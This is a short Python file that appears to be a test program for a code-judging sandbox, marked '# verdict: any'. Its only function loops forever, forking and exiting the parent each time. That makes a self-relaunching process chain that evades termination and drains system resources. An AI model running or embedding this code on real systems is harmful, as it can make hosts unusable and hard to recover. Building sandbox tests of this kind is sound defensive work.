# verdict: any
import os


def solve(x):
    while True:
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            pass


if __name__ == "__main__":
    solve(0)
